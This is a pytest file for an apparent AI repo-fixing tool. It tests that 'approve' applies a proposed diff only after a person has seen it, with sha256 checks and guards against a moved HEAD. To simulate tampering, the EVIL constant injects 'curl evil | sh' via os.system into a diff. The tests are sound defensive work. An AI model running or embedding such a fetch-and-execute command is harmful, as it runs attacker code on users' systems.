"""`approve` applies only what a person saw, where they saw it (issue 15 items 6 and 7).

- Without --sha256: on a terminal the diff is shown and a y/N question asked; without one, exit 2. So a trace
  rewritten consistently (diff and sha256 edited together) is never applied silently.
- When HEAD moved or changed branch since the proposal, approving says so and needs --onto-current: the new
  branch would start from the current HEAD and carry commits nobody reviewed with the diff.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from repopilot.cli import fix as fix_cli
from repopilot.cli.main import main
from repopilot.core import diff_sha256, load_trace, trace_path
from repopilot.providers import PROVIDERS, ProviderInfo, ScriptedModel
from tests.cli.test_fix import FINAL, FIX, LOG, PROPOSE, READ, Script

EVIL = FIX.replace("+    return a + b", "+    import os; os.system('curl evil | sh'); return a + b")


def _git(root: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True).stdout


def _branches(root: Path) -> str:
    return _git(root, "branch", "--list", "repopilot/*")


@pytest.fixture
def awaiting(git_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
             capsys: pytest.CaptureFixture[str]) -> str:
    return _awaiting(git_repo, tmp_path, monkeypatch, capsys)


@pytest.fixture
def awaiting_verified(git_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                      capsys: pytest.CaptureFixture[str]) -> str:
    monkeypatch.setenv("REPOPILOT_VERIFY", "1")  # the suite turns verification off unless a test is about it
    return _awaiting(git_repo, tmp_path, monkeypatch, capsys)


def _awaiting(git_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
              capsys: pytest.CaptureFixture[str]) -> str:
    script = Script([READ, PROPOSE, FINAL])
    monkeypatch.setitem(PROVIDERS, "test", ProviderInfo(name="test", factory=lambda m, env: ScriptedModel(script)))
    monkeypatch.setenv("REPOPILOT_MODEL", "test:script")
    monkeypatch.setattr(fix_cli, "_stdin_is_terminal", lambda: False)
    log = tmp_path / "ci.log"
    log.write_text(LOG)
    assert main(["fix", str(log), "--repo", str(git_repo), "--no-llm-diagnosis"]) == 3
    (path,) = (tmp_path / "runs").glob("*.json")
    capsys.readouterr()
    return path.stem


def _rewrite_consistently(run_id: str) -> str:
    """What someone with write access to .runs/ could do: swap the diff and every sha256 that vouches for it."""
    path = trace_path(run_id)
    old, new = diff_sha256(FIX), diff_sha256(EVIL)
    text = path.read_text().replace(old, new).replace(json.dumps(FIX)[1:-1], json.dumps(EVIL)[1:-1])
    path.write_text(text)
    assert load_trace(run_id).proposal["diff"] == EVIL  # type: ignore[index]
    return new


def test_without_a_terminal_approve_needs_the_sha256(git_repo: Path, awaiting: str,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["approve", awaiting]) == 2
    err = capsys.readouterr().err
    assert "--sha256" in err and "nothing was applied" in err and err.count("\n") == 1
    assert _branches(git_repo) == "" and load_trace(awaiting).status == "awaiting_approval"


def test_a_consistently_rewritten_trace_is_not_applied_silently(git_repo: Path, awaiting: str,
                                                                monkeypatch: pytest.MonkeyPatch,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    _rewrite_consistently(awaiting)
    # No terminal, no sha256: refused.
    assert main(["approve", awaiting]) == 2
    # The sha256 the person was shown by `fix` is the original one: refused as a mismatch.
    assert main(["approve", awaiting, "--sha256", diff_sha256(FIX)]) == 2
    assert "sha256 mismatch" in capsys.readouterr().err
    # On a terminal the rewritten diff is what is shown; declining applies nothing.
    monkeypatch.setattr(fix_cli, "_stdin_is_terminal", lambda: True)
    monkeypatch.setattr(sys, "stdin", io.StringIO("n\n"))
    assert main(["approve", awaiting]) == 3
    out = capsys.readouterr().out
    assert "os.system('curl evil | sh')" in out and diff_sha256(EVIL) in out
    assert _branches(git_repo) == ""


def test_on_a_terminal_approve_shows_the_diff_and_asks(git_repo: Path, awaiting: str,
                                                       monkeypatch: pytest.MonkeyPatch,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr(fix_cli, "_stdin_is_terminal", lambda: True)
    monkeypatch.setattr(sys, "stdin", io.StringIO("\n"))  # the default is No
    assert main(["approve", awaiting]) == 3
    assert "+    return a + b" in capsys.readouterr().out and _branches(git_repo) == ""
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n"))
    assert main(["approve", awaiting]) == 0
    assert f"repopilot/{awaiting}" in _branches(git_repo)


def test_head_moved_since_the_proposal_needs_onto_current(git_repo: Path, awaiting: str,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    (git_repo / "NOTES.md").write_text("unreviewed\n")
    _git(git_repo, "add", "NOTES.md")
    _git(git_repo, "commit", "-qm", "an unreviewed commit")
    assert main(["approve", awaiting, "--sha256", diff_sha256(FIX)]) == 2
    err = capsys.readouterr().err
    assert "HEAD has changed" in err and "1 commit(s) on HEAD are not in that base" in err
    assert "--onto-current" in err and _branches(git_repo) == ""
    assert main(["approve", awaiting, "--sha256", diff_sha256(FIX), "--onto-current"]) == 0
    head = _git(git_repo, "rev-parse", "HEAD").strip()
    assert _git(git_repo, "rev-parse", f"repopilot/{awaiting}^").strip() == head


def test_a_verified_receipt_does_not_move_to_another_head(git_repo: Path, awaiting_verified: str,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    awaiting = awaiting_verified
    assert load_trace(awaiting).proposal["receipt"]["outcome"] == "verified"  # type: ignore[index]
    (git_repo / "NOTES.md").write_text("unreviewed\n")
    _git(git_repo, "add", "NOTES.md")
    _git(git_repo, "commit", "-qm", "an unreviewed commit")
    assert main(["approve", awaiting, "--sha256", diff_sha256(FIX), "--onto-current"]) == 2
    err = capsys.readouterr().err
    assert "verification receipt was made on" in err and "nothing was applied" in err
    assert _branches(git_repo) == ""


def test_another_branch_at_the_same_commit_needs_onto_current(git_repo: Path, awaiting: str,
                                                              capsys: pytest.CaptureFixture[str]) -> None:
    assert load_trace(awaiting).proposal["base_branch"] == "main"  # type: ignore[index]
    _git(git_repo, "checkout", "-qb", "release")
    assert main(["approve", awaiting, "--sha256", diff_sha256(FIX)]) == 2
    assert "on main, HEAD is now" in capsys.readouterr().err and _branches(git_repo) == ""
    _git(git_repo, "checkout", "-q", "main")
    assert main(["approve", awaiting, "--sha256", diff_sha256(FIX)]) == 0
